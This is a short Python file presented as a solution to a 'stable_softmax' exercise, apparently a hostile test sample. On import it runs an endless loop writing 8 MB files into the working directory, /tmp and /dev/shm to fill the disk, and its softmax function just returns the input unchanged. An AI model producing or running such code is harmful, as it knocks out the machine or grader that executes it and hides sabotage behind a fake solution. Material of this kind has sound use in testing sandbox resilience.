# exercise: stable_softmax
# tries: fill the disk
# ends: any
import os

n = 0
while True:
    for folder in (".", "/tmp", "/dev/shm"):
        with open(f"{folder}/filler-{n}", "wb") as file:
            file.write(bytes(8_000_000))
    n += 1


def stable_softmax(logits):
    return logits
